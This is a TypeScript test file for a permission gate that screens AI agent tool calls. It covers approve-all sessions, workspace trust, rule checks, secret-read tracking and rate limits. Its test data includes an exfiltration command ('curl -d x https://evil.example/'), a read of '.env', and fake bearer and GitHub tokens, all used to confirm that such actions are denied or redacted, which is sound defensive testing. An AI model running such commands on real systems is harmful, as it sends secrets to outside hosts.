import assert from 'node:assert/strict';
import { defaultSettings, type PolicySettings } from '../../../src/core/policy/policy.ts';
import type { Rule, RuleScope } from '../../../src/core/rules/rule.ts';
import { createLimits } from '../../../src/gate/limits.ts';
import { createSessions, sessionOf } from '../../../src/gate/sessions.ts';
import { tightenedSettings } from '../../../src/core/policy/tightenedSettings.ts';
import { diskFull, MemoryStore } from './memoryStore.ts';
import { allOn, askAndAnswer, send, settled, shell, TestClock, testGate, workspace, write } from './testGate.ts';

const session = 'agent/Claude%20Code/s1';

function rule(effect: Rule['effect'], scope: RuleScope, source: Rule['source'] = 'workspace_manifest'): Rule {
  return { id: `${effect}-${JSON.stringify(scope)}`, source, effect, scope, createdAt: 0 };
}

describe('approve all for this session', () => {
  it('answers commands of this session that ask only because of the mode, and says so in the record', async () => {
    const test = testGate();
    assert.deepEqual(await test.gate.approveAllForSession(session, 'editor'), { ok: true });
    const verdict = await test.gate.check(shell('make build'));
    assert.deepEqual([verdict.decision, verdict.settledBy], ['allow', 'person']);
    assert.deepEqual(test.store.entries('approve_all'), [{ type: 'approve_all', session, on: true, by: 'editor' }]);
    assert.deepEqual([test.store.entries('decision')[0]?.by, test.store.entries('decision')[0]?.evaluated], ['approve all', 'ask']);
    assert.deepEqual(test.gate.approvingAll, [session]);

    const { verdict: other } = await askAndAnswer(test, shell('make build', { actor: { kind: 'agent', name: 'Claude Code', session: 's2' } }), 'deny_once');
    assert.equal(other.decision, 'deny');
  });

  for (const [what, request] of [
    ['a delete', { tool: 'delete_file', input: { path: 'a.txt' } }],
    ['a delete in a command', { tool: 'run_command', input: { command: 'rm a.txt' } }],
    ['an export', send('https://api.example.com/')],
    ['an export in a command', { tool: 'run_command', input: { command: 'curl -d x https://evil.example/' } }],
    ['a location', { tool: 'get_current_location' }],
    ['a command that cannot be read', { tool: 'run_command', input: { command: '$TOOL run' } }],
    ['code', { tool: 'execute_code', input: { code: 'print(1)' } }],
    ['a write of a file tool', write('a.txt')],
    ['a secret', { tool: 'read_file', input: { path: '.env' } }],
    ['a tool nobody knows', { tool: 'frobnicate' }],
  ] as const) {
    it(`never answers ${what}`, async () => {
      const test = testGate();
      await test.gate.approveAllForSession(session, 'editor');
      const { verdict } = await askAndAnswer(test, { ...request, actor: { kind: 'agent', name: 'Claude Code', session: 's1' } }, 'deny_once');
      assert.equal(verdict.decision, 'deny');
      assert.equal(test.prompter.asked[0]?.mayApproveAll, false);
    });
  }

  it('never answers what an ask rule asks', async () => {
    const test = testGate();
    test.store.changed({ workspaceRules: [rule('ask', { kind: 'command_prefix', prefix: 'make' }, 'workspace_db')] });
    await test.gate.approveAllForSession(session, 'editor');
    const { verdict } = await askAndAnswer(test, shell('make build'), 'deny_once');
    assert.equal(verdict.decision, 'deny');
  });

  it('settles what is open when it is switched on, and stops when it is switched off', async () => {
    const test = testGate();
    const open = test.gate.check(shell('make build'));
    const remove = test.gate.check(shell('rm a.txt'));
    await settled();
    assert.equal(test.gate.pending[0]?.mayApproveAll, true);
    await test.gate.approveAllForSession(session, 'editor');
    assert.equal((await open).decision, 'allow');
    assert.equal(test.gate.pending.length, 1);
    await test.gate.stopApproveAll();
    assert.deepEqual(test.gate.approvingAll, []);
    const { verdict } = await askAndAnswer(test, shell('make test'), 'deny_once');
    assert.equal(verdict.decision, 'deny');
    await test.gate.dispose();
    await remove;
  });

  it('does nothing once trust is taken away', async () => {
    const test = testGate();
    await test.gate.approveAllForSession(session, 'editor');
    test.trusted = false;
    const verdict = await test.gate.check(shell('make'));
    assert.equal(verdict.decision, 'deny');
    const fetch = { tool: 'web_fetch', input: { url: 'http://127.0.0.1:3000/' }, actor: { kind: 'agent', name: 'Claude Code', session: 's1' } };
    await askAndAnswer(test, fetch, 'deny_once');
    test.trusted = true;
    assert.equal((await test.gate.check(fetch)).settledBy, 'person');
    assert.equal(test.prompter.asked.length, 1);
  });

  it('is not switched on where that cannot be recorded, and is off where the switching off cannot', async () => {
    const test = testGate();
    test.store.beforeCommit = () => {
      throw diskFull();
    };
    assert.equal((await test.gate.approveAllForSession(session, 'editor')).ok, false);
    assert.deepEqual(test.gate.approvingAll, []);
    test.store.beforeCommit = () => undefined;
    await test.gate.approveAllForSession(session, 'editor');
    test.store.beforeCommit = () => {
      throw diskFull();
    };
    await test.gate.stopApproveAll(session);
    assert.deepEqual(test.gate.approvingAll, []);
  });
});

describe('a workspace that is not trusted', () => {
  it('offers answers for once only, and refuses lasting ones', async () => {
    const test = testGate();
    test.trusted = false;
    const verdict = test.gate.check(write('a.txt'));
    await settled();
    const [approval] = test.gate.pending;
    assert.deepEqual(approval?.evaluation.suggestions, ['deny_once', 'allow_once']);
    assert.equal((await test.gate.answer(approval?.id ?? '', { answer: 'allow_workspace', by: 'editor' })).outcome, 'invalid');
    assert.equal((await test.gate.answer(approval?.id ?? '', { answer: 'allow_once', by: 'editor' })).outcome, 'settled');
    assert.equal((await verdict).decision, 'allow');
    assert.equal((await test.gate.approveAllForSession(session, 'editor')).ok, false);
    assert.equal((await test.gate.addRule({ source: 'workspace_db', effect: 'allow', scope: { kind: 'tool', toolName: 'write_file' } }, 'editor')).ok, false);
    assert.equal((await test.gate.addRule({ source: 'workspace_db', effect: 'deny', scope: { kind: 'tool', toolName: 'write_file' } }, 'editor')).ok, true);
  });

  it('a lasting answer offered before trust was taken away is refused', async () => {
    const test = testGate();
    const verdict = test.gate.check(write('a.txt'));
    await settled();
    const [approval] = test.gate.pending;
    assert.ok(approval?.evaluation.suggestions.includes('allow_workspace'));
    test.trusted = false;
    assert.equal((await test.gate.answer(approval?.id ?? '', { answer: 'allow_workspace', by: 'editor' })).outcome, 'invalid');
    test.gate.refresh();
    assert.deepEqual(test.gate.pending[0]?.evaluation.suggestions, ['deny_once', 'allow_once']);
    await test.gate.dispose();
    await verdict;
  });

  it("counts a workspace's own settings only where they tighten", () => {
    const examples = { match: ['x'], notMatch: ['y'] };
    const loose: PolicySettings = {
      ...allOn, mode: 'bypass_permissions', allowedPaths: ['/'], unrestrictedFileAccess: true,
      guardrails: { customBlockedPatterns: ['x'], autoApproveTrustedCommands: true, trustedCommandPatterns: ['*'] },
      protectedPlaces: { sealed: ['/a'], guarded: ['/b'] },
      commands: [{ command: 'acme', does: 'read', examples }, { command: 'git', does: 'export', examples }],
    };
    assert.deepEqual(tightenedSettings(loose), {
      ...defaultSettings, guardrails: { ...defaultSettings.guardrails, customBlockedPatterns: ['x'] }, protectedPlaces: loose.protectedPlaces, commands: loose.commands.slice(1),
    });
    const tight = tightenedSettings({ ...defaultSettings, mode: 'plan', permissions: { ...defaultSettings.permissions, write: false, network: false } });
    assert.deepEqual([tight.mode, tight.permissions], ['plan', { read: true, write: false, delete: false, shell: false, network: false }]);
  });

  it('mode and switches of the workspace do not loosen, and do once it is trusted', async () => {
    const test = testGate({ settings: { mode: 'bypass_permissions' } });
    test.trusted = false;
    const verdict = await test.gate.check(shell('make'));
    assert.deepEqual([verdict.decision, verdict.evaluation.reason.type], ['deny', 'workspace_capability']);
    const asked = test.gate.check(write('a.txt'));
    await settled();
    assert.equal(test.gate.pending.length, 1);
    test.trusted = true;
    test.gate.refresh();
    assert.equal((await asked).decision, 'allow');
    assert.equal((await test.gate.check(shell('make'))).decision, 'allow');
  });
});

describe('rules of the repository', () => {
  const rules = [rule('allow', { kind: 'command_prefix', prefix: 'make' }), rule('allow', { kind: 'path', path: 'generated' }), rule('deny', { kind: 'command_prefix', prefix: 'npm publish' })];

  it('allows count only in a trusted workspace and after the review of exactly this file; denies always', async () => {
    const test = testGate();
    test.store.changed({ manifest: { hash: 'h1', rules, reviewed: false } });
    assert.equal((await test.gate.check(shell('npm publish'))).decision, 'deny');
    await askAndAnswer(test, shell('make'), 'deny_once');

    assert.deepEqual((await test.gate.reviewManifest('h0', 'editor')).ok, false);
    test.trusted = false;
    assert.equal((await test.gate.reviewManifest('h1', 'editor')).ok, false);
    test.trusted = true;
    assert.deepEqual(await test.gate.reviewManifest('h1', 'editor'), { ok: true });
    assert.equal((await test.gate.check(shell('make'))).decision, 'allow');
    test.trusted = false;
    assert.equal((await test.gate.check(shell('make'))).decision, 'deny');
    await askAndAnswer(test, write('generated/a.ts'), 'deny_once');
    test.trusted = true;
    assert.equal((await test.gate.check(write('generated/a.ts'))).decision, 'allow');

    test.store.changed({ manifest: { hash: 'h2', rules, reviewed: false } });
    const { verdict } = await askAndAnswer(test, shell('make'), 'deny_once');
    assert.equal(verdict.decision, 'deny');
  });
});

describe('what a session knows', () => {
  const env = { tool: 'read_file', input: { path: '.env' }, actor: { kind: 'agent', name: 'Claude Code', session: 's1' } };
  const fetch = { tool: 'web_fetch', input: { url: 'https://example.com/docs' }, actor: { kind: 'agent', name: 'Claude Code', session: 's1' } };

  it('a secret it was allowed to read makes its next fetch an export, which shows the read; other sessions are free', async () => {
    const test = testGate();
    assert.equal((await test.gate.check(fetch)).decision, 'allow');
    await askAndAnswer(test, env, 'allow_once');
    const verdict = test.gate.check(fetch);
    await settled();
    const [approval] = test.gate.pending;
    assert.equal(approval?.evaluation.actions[0]?.action.kind, 'export');
    assert.deepEqual(approval?.recentReads.map(({ path, why }) => [path, why]), [[`${workspace}/.env`, 'secret']]);
    assert.deepEqual(test.store.entries('decision')[1]?.secrets, [`${workspace}/.env`]);
    assert.equal((await test.gate.check({ ...fetch, actor: { kind: 'agent', name: 'Claude Code', session: 's2' } })).decision, 'allow');
    await test.gate.dispose();
    await verdict;
  });

  it('a secret it was denied is not held', async () => {
    const test = testGate();
    await askAndAnswer(test, env, 'deny_once');
    assert.equal((await test.gate.check(fetch)).decision, 'allow');
  });

  it('what it holds survives the window', async () => {
    const store = new MemoryStore({ settings: allOn });
    await askAndAnswer(testGate({ store }), env, 'allow_once');
    const second = testGate({ store });
    const verdict = second.gate.check(fetch);
    await settled();
    assert.equal(second.gate.pending[0]?.recentReads[0]?.path, `${workspace}/.env`);
    await second.gate.dispose();
    await verdict;
  });

  it('three denials by the mode in a row turn the next into a question; an allow starts the count anew', async () => {
    const test = testGate({ settings: { mode: 'plan' } });
    for (let round = 0; round < 3; round += 1) assert.equal((await test.gate.check(write('a.txt'))).settledBy, 'policy');
    const { verdict } = await askAndAnswer(test, write('a.txt'), 'allow_once');
    assert.equal(verdict.decision, 'allow');
    assert.equal((await test.gate.check(write('a.txt'))).settledBy, 'policy');
    assert.equal((await test.gate.check(write('b.txt'))).settledBy, 'policy');
  });

  it('denials of a person count, those by a rule do not', async () => {
    const test = testGate();
    for (let round = 0; round < 3; round += 1) await askAndAnswer(test, write('a.txt'), 'deny_once');
    await test.gate.addRule({ source: 'workspace_db', effect: 'deny', scope: { kind: 'path', path: 'b.txt' } }, 'editor');
    for (let round = 0; round < 3; round += 1) assert.equal((await test.gate.check(write('b.txt'))).decision, 'deny');
    await test.gate.removeRule(test.store.state.workspaceRules[0]?.id ?? '', 'editor');
    await test.gate.changeSettings({ mode: 'plan' }, 'editor');
    assert.equal((await test.gate.check(write('b.txt'))).decision, 'deny');
    const { verdict } = await askAndAnswer(test, write('a.txt'), 'deny_once');
    assert.equal(verdict.evaluation.reason.type, 'denial_fallback');
  });

  it('denials by a guardrail never turn into a question', async () => {
    const test = testGate({ settings: { mode: 'plan' } });
    const sealed = write(`${workspace}/.cowork/policy/policy.db`);
    for (let round = 0; round < 5; round += 1) {
      const verdict = await test.gate.check(sealed);
      assert.deepEqual([verdict.decision, verdict.evaluation.reason.type], ['deny', 'guardrail']);
    }
  });

  it('sessions put away for room keep their secrets, and a list too long makes every new session suspect', () => {
    const sessions = createSessions();
    sessions.of('first').noteRead('/p/.env', 'secret', 1);
    sessions.of('clean').noteRead('/p/mail.eml', 'untrusted', 1);
    for (let index = 0; index < 600; index += 1) sessions.of(`s${index}`);
    assert.deepEqual(sessions.of('first').holds, ['/p/.env']);
    assert.deepEqual(sessions.of('clean').holds, []);
    for (let index = 0; index < 6_000; index += 1) sessions.of(`x${index}`).noteRead(`/p/${index}.env`, 'secret', 1);
    assert.notDeepEqual(sessions.of('never seen').holds, []);
    assert.notDeepEqual(sessions.of('x0').holds, []);
  });

  it('keeps the twelve newest reads, each path once', () => {
    const known = createSessions().of('s');
    for (let index = 0; index < 20; index += 1) known.noteRead(`/p/${index}`, 'untrusted', index);
    known.noteRead('/p/15', 'secret', 99);
    assert.equal(known.recentReads.length, 12);
    assert.deepEqual(known.recentReads[0], { path: '/p/15', why: 'secret', at: 99 });
    assert.equal(known.recentReads.filter((read) => read.path === '/p/15').length, 1);
  });

  it('two agents with the same session number are two sessions, whatever their names', () => {
    const names = [['A', '1'], ['B', '1'], ['A/1', ''], ['A', '/1'], [undefined, undefined]] as const;
    const ids = names.map(([name, id]) => sessionOf({ tool: 't', actor: { kind: 'agent', ...(name === undefined ? {} : { name }), ...(id === undefined ? {} : { session: id }) } }));
    assert.equal(new Set(ids).size, names.length);
  });
});

describe('limits', () => {
  it('five changes of settings a minute, then a refusal with the time to wait', async () => {
    const test = testGate();
    for (const mode of ['plan', 'default', 'plan', 'default'] as const) assert.deepEqual(await test.gate.changeSettings({ mode }, 'editor'), { ok: true });
    assert.deepEqual(await test.gate.addRule({ source: 'workspace_db', effect: 'deny', scope: { kind: 'tool', toolName: 'x' } }, 'editor'), { ok: true });
    test.clock.sleep(18_000);
    assert.deepEqual(await test.gate.changeSettings({ mode: 'plan' }, 'editor'), { ok: false, reason: 'At most 5 changes of settings a minute. Wait 42 s.' });
    assert.equal(test.store.state.settings.mode, 'default');
    assert.equal((await test.gate.removeRule(test.store.state.workspaceRules[0]?.id ?? '', 'editor')).ok, false);
    test.clock.sleep(42_000);
    assert.deepEqual(await test.gate.changeSettings({ mode: 'plan' }, 'editor'), { ok: true });
  });

  it('answers of a person are never limited', async () => {
    const test = testGate();
    for (let index = 0; index < 12; index += 1) {
      const { outcome } = await askAndAnswer(test, shell(`make target-${index}`), 'allow_workspace');
      assert.equal(outcome.outcome, 'settled');
    }
  });

  it('ten searches a minute for a session; the next is denied with the time to wait, other sessions are free', async () => {
    const test = testGate();
    const search = { tool: 'web_search', input: { query: 'x' }, actor: { kind: 'agent', name: 'A', session: '1' } };
    for (let index = 0; index < 10; index += 1) assert.equal((await test.gate.check(search)).decision, 'allow');
    const verdict = await test.gate.check(search);
    assert.equal(verdict.decision, 'deny');
    assert.match(verdict.message, /At most 10 .* a minute\. Wait 60 s\./);
    assert.equal((await test.gate.check({ ...search, actor: { kind: 'agent', name: 'A', session: '2' } })).decision, 'allow');
    test.clock.sleep(60_000);
    assert.equal((await test.gate.check(search)).decision, 'allow');
  });

  it('a denied search keeps its own reason and uses nothing up', async () => {
    const test = testGate({ settings: { permissions: { ...allOn.permissions, network: false } } });
    for (let index = 0; index < 12; index += 1) assert.match((await test.gate.check({ tool: 'web_search', input: { query: 'x' } })).message, /network is switched off/);
  });

  it('a clock that is set back does not lock anyone out, and many users do not fill the memory', () => {
    const clock = new TestClock();
    const limits = createLimits(clock);
    for (let use = 0; use < 5; use += 1) limits.take('settings', 'w');
    assert.equal(limits.take('settings', 'w').ok, false);
    clock.sleep(-1_000_000);
    assert.equal(limits.take('settings', 'w').ok, true);
    for (let user = 0; user < 4_999; user += 1) limits.take('expensive', `u${user}`);
    assert.equal(limits.take('expensive', 'one more').ok, false);
    clock.sleep(60_000);
    assert.equal(limits.take('expensive', 'one more').ok, true);
  });
});

describe('changes of the policy', () => {
  it('a rule is added, counts at once and is removed again', async () => {
    const test = testGate();
    assert.deepEqual(await test.gate.addRule({ source: 'workspace_db', effect: 'allow', scope: { kind: 'command_prefix', prefix: 'make build' }, reason: 'always fine' }, 'editor'), { ok: true });
    assert.equal((await test.gate.check(shell('make build'))).decision, 'allow');
    const [added] = test.store.state.workspaceRules;
    assert.deepEqual([added?.createdAt, added?.reason], [test.clock.now(), 'always fine']);
    assert.deepEqual(await test.gate.removeRule(added?.id ?? '', 'editor'), { ok: true });
    await askAndAnswer(test, shell('make build'), 'deny_once');
    assert.deepEqual(test.store.entries('rule_removed').map((entry) => entry.rule.id), [added?.id]);
  });

  for (const [what, draft] of [
    ['a blank scope', { source: 'workspace_db', effect: 'allow', scope: { kind: 'command_prefix', prefix: ' ' } }],
    ['an unknown scope', { source: 'workspace_db', effect: 'deny', scope: { kind: 'all' } }],
    ['a source that is not the person', { source: 'managed', effect: 'allow', scope: { kind: 'tool', toolName: 'x' } }],
    ['the repository as source', { source: 'workspace_manifest', effect: 'allow', scope: { kind: 'tool', toolName: 'x' } }],
    ['a session without a name', { source: 'session', effect: 'allow', scope: { kind: 'tool', toolName: 'x' } }],
    ['a credential in it', { source: 'workspace_db', effect: 'allow', scope: { kind: 'command_prefix', prefix: 'curl -H Authorization:Bearer:sk-abcdefghijklmnopqrstuvwxyz' } }],
    ['nothing', undefined],
  ] as const) {
    it(`a rule with ${what} is refused with a sentence`, async () => {
      const test = testGate();
      const outcome = await test.gate.addRule(draft as never, 'editor');
      assert.equal(outcome.ok, false);
      assert.match(outcome.ok ? '' : outcome.reason, /\.$/);
      assert.deepEqual(test.store.recorded, []);
    });
  }

  it('a rule that is there already, or belongs to someone else, is told so', async () => {
    const test = testGate();
    const draft = { source: 'workspace_db', effect: 'deny', scope: { kind: 'tool', toolName: 'x' } } as const;
    await test.gate.addRule(draft, 'editor');
    const again = await test.gate.addRule(draft, 'editor');
    assert.match(again.ok ? '' : again.reason, /there already: deny tool x/);
    test.store.changed({ managedRules: [{ ...rule('deny', { kind: 'tool', toolName: 'm' }, 'managed'), id: 'm' }], manifest: { hash: 'h', reviewed: true, rules: [{ ...rule('deny', { kind: 'tool', toolName: 'r' }), id: 'r' }] } });
    const reasons = await Promise.all(['m', 'r', 'none'].map(async (id) => test.gate.removeRule(id, 'editor')));
    assert.deepEqual(reasons.map((outcome) => (outcome.ok ? '' : outcome.reason.split(' ').slice(0, 4).join(' '))), ['This rule is set', 'This rule belongs to', 'There is no such']);
  });

  it('a change that cannot be recorded changes nothing', async () => {
    const test = testGate();
    test.store.beforeCommit = () => {
      throw diskFull();
    };
    const outcome = await test.gate.changeSettings({ mode: 'plan' }, 'editor');
    assert.match(outcome.ok ? '' : outcome.reason, /nothing changed\. The disk is full/);
    assert.equal(test.gate.policy().settings?.mode ?? test.store.state.settings.mode, 'default');
  });

  it('a result is recorded, without credentials and not without end', async () => {
    const test = testGate();
    assert.deepEqual(await test.gate.report({ requestId: 'a', ok: true, summary: `done ghp_abcdefghijklmnopqrstuvwxyz0123 ${'x'.repeat(9_000)}` }), { ok: true });
    const [result] = test.store.entries('result');
    assert.ok(!result?.summary?.includes('ghp_'));
    assert.ok((result?.summary?.length ?? 0) < 5_000);
    for (const bad of [undefined, {}, { requestId: '', ok: true }, { requestId: 'a' }, { requestId: 'a', ok: 1 }, { requestId: 'a', ok: true, summary: 4 }]) {
      assert.equal((await test.gate.report(bad)).ok, false);
    }
  });
});

describe('a rule that allows so many times', () => {
  it('allows exactly so many of requests that come at once, and the rest are asked', async () => {
    const test = testGate();
    // A disk that takes its time, so that all are under way together
    test.store.beforeCommit = () => new Promise((resolve) => void setImmediate(resolve));
    await test.gate.addRule({ source: 'workspace_db', effect: 'allow', scope: { kind: 'command_prefix', prefix: 'make' }, usesLeft: 2 }, 'editor');
    const verdicts = Array.from({ length: 5 }, (_, index) => test.gate.check(shell('make all', { id: index })));
    while (test.gate.pending.length === 0) await settled();
    for (let turn = 0; turn < 5; turn += 1) await settled();
    const [approval] = test.gate.pending;
    await test.gate.answer(approval?.id ?? '', { answer: 'deny_once', by: 'editor' });
    const given = await Promise.all(verdicts);
    assert.deepEqual(given.map((verdict) => verdict.decision), ['allow', 'allow', 'deny', 'deny', 'deny']);
    assert.deepEqual(test.store.state.workspaceRules, []);
  });

  it('does not stand in the way when it cannot be recorded', async () => {
    const test = testGate();
    await test.gate.addRule({ source: 'workspace_db', effect: 'allow', scope: { kind: 'command_prefix', prefix: 'make' }, usesLeft: 2 }, 'editor');
    test.store.beforeCommit = () => {
      throw diskFull();
    };
    assert.equal((await test.gate.check(shell('make all'))).settledBy, 'failure');
    test.store.beforeCommit = () => undefined;
    assert.equal((await test.gate.check(shell('make all'))).decision, 'allow');
    assert.equal((await test.gate.check(shell('make all'))).decision, 'allow');
  });
});

describe('listeners', () => {
  it('hear each decision once it is recorded, and each change of what is open', async () => {
    const test = testGate();
    const heard: string[] = [];
    test.gate.onDidDecide(({ verdict }) => void heard.push(`${verdict.decision} ${test.store.entries('decision').length}`));
    let changes = 0;
    const listening = test.gate.onDidChange(() => void (changes += 1));
    await askAndAnswer(test, shell('make'), 'allow_once');
    assert.deepEqual(heard, ['allow 1']);
    assert.ok(changes > 0);
    listening.dispose();
    const before = changes;
    await test.gate.check({ tool: 'read_file', input: { path: 'a' } });
    assert.equal(changes, before);
  });

  it('a dry run asks nobody, records nothing and counts nothing', async () => {
    const test = testGate({ settings: { mode: 'plan' } });
    for (let round = 0; round < 5; round += 1) assert.equal(test.gate.evaluate(write('a.txt')).decision, 'deny');
    assert.deepEqual([test.store.recorded, test.prompter.asked], [[], []]);
    assert.throws(() => test.gate.evaluate({}), /no request/);
  });
});
